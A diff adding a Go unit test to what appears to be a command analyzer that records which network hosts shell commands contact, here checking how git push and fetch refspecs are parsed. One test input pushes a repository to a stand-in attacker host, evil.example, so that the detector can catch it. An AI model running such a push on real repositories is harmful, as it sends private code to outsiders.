@@ -139,3 +139,22 @@ func TestGitShellAlias(t *testing.T) {
 		t.Errorf("plain alias is not shell code: %s", dump(f))
 	}
 }
+
+// TestGitRefspecIsNotARemote: after the repository operand of push, fetch
+// and pull come refspecs, whose "src:dst" form is not an scp-like host.
+func TestGitRefspecIsNotARemote(t *testing.T) {
+	f := run(t, `git push https://github.com/acme/x.git HEAD:refs/heads/ci`)
+	if len(f.Network) != 1 || f.Network[0].Host != "github.com" {
+		t.Errorf("want one request to github.com:\n%s", dump(f))
+	}
+	f = run(t, `git fetch origin main:tmp`)
+	for _, n := range f.Network {
+		if n.Host == "main" {
+			t.Errorf("refspec taken for a host: %+v", n)
+		}
+	}
+	f = run(t, `git push git@evil.example:x/y.git main`)
+	if len(f.Network) != 1 || f.Network[0].Host != "evil.example" {
+		t.Errorf("scp-like remote lost:\n%s", dump(f))
+	}
+}
